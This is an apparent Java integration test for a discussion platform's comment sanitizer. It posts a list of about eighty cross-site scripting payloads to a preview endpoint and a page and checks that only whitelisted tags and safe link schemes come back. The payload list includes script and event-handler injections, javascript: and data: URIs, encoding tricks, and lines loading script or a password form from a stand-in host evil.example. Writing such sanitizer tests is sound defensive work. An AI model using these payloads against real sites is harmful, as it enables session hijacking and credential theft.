package org.corridor.discussion;

import static org.assertj.core.api.Assertions.assertThat;

import io.restassured.http.ContentType;
import java.util.List;
import java.util.regex.Pattern;
import org.corridor.platform.testing.As;
import org.corridor.platform.testing.OnRunningCorridor;
import org.junit.jupiter.api.Test;

/** What people try to put into pages through a comment. */
@OnRunningCorridor
class HostileMarkdownIT {
    private static final Pattern TAG = Pattern.compile("<\\s*/?([a-zA-Z0-9]+)([^>]*)>");
    /** A link leads to the web, to a mailbox, or nowhere else than here: without a scheme nothing runs. */
    private static final Pattern SAFE_ATTRIBUTES =
            Pattern.compile("( href=\"((https?:|mailto:)[^\"<>]*|[^\":<>]*)\"| rel=\"[a-z ]*\"| start=\"\\d+\")* ?/?");

    private static final List<String> SAFE = List.of(
            "p",
            "br",
            "em",
            "strong",
            "ul",
            "ol",
            "li",
            "blockquote",
            "code",
            "pre",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "a");

    private static final List<String> VECTORS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\n>alert(1)</script\n>",
            "<script/x>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=x onerror=&#97;lert(1)>",
            "<img src=`x`onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mtext></p><script>alert(1)</script>",
            "<math href=javascript:alert(1)>x</math>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<body onload=alert(1)>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href=https://evil.example/>",
            "<form action=https://evil.example><input name=password><button>x</button></form>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
            "<div style=\"position:fixed;inset:0\">x</div>",
            "<p id=main class=button>x</p>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<textarea></textarea><script>alert(1)</script>",
            "<title></title><script>alert(1)</script>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?php echo 1 ?><script>alert(1)</script>",
            "<xss style=\"behavior:url(x.htc)\">",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](  javascript:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](java&#10;script:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](javascript%3Aalert(1))",
            "[x](<javascript:alert(1)>)",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](data:image/svg+xml,<svg onload=alert(1)>)",
            "[x](vbscript:msgbox(1))",
            "[x](file:///etc/hosts)",
            "[x](blob:https://example.org/1)",
            "[x](https://example.org \"onmouseover=alert(1)\")",
            "[x](https://example.org/\"onmouseover=\"alert(1))",
            "[x](https://example.org/'><script>alert(1)</script>)",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/track.gif)",
            "![x\" onerror=\"alert(1)](x)",
            "<javascript:alert(1)>",
            "<https://example.org/<script>alert(1)</script>>",
            "[x][1]\n\n[1]: javascript:alert(1)",
            "[x][1]\n\n[1]: https://example.org '\"><script>alert(1)</script>'",
            "`<script>alert(1)</script>`",
            "```html onload=alert(1)\n<script>alert(1)</script>\n```",
            "```\"><script>alert(1)</script>\nx\n```",
            "# <img src=x onerror=alert(1)>",
            "> <svg onload=alert(1)>",
            "1. <script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;img src=x onerror=alert(1)&#62;",
            "\\<script>alert(1)\\</script>",
            "*<script>*alert(1)*</script>*",
            "{{constructor.constructor('alert(1)')()}}",
            "</div></article></section><script>alert(1)</script>",
            "\u202e<script>alert(1)</script>",
            "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e");

    @Test
    void nothingThatActsReachesAPage() {
        for (var vector : VECTORS) {
            var html = As.member()
                    .contentType(ContentType.JSON)
                    .body("{\"text\":%s}".formatted(Talk.json(vector)))
                    .post("/api/discussion/preview")
                    .then()
                    .statusCode(200)
                    .extract()
                    .<String>path("html");
            TAG.matcher(html).results().forEach(tag -> {
                assertThat(SAFE).as(vector + " became " + html).contains(tag.group(1));
                assertThat(tag.group(2)).as(vector + " became " + html).matches(SAFE_ATTRIBUTES);
            });
        }
        assertThat(VECTORS).hasSizeGreaterThan(60);
    }

    @Test
    void whatIsPostedReadsTheSameInThePage() {
        var talk = Talk.begin();
        for (var vector : VECTORS.subList(0, 12)) {
            talk.say("member", vector);
        }
        var page = io.restassured.RestAssured.given()
                .get("/library/" + talk.number())
                .asString();
        assertThat(page).doesNotContain("<script>alert", "<img src=x", "<svg").contains("&lt;script&gt;alert(1)");
    }
}
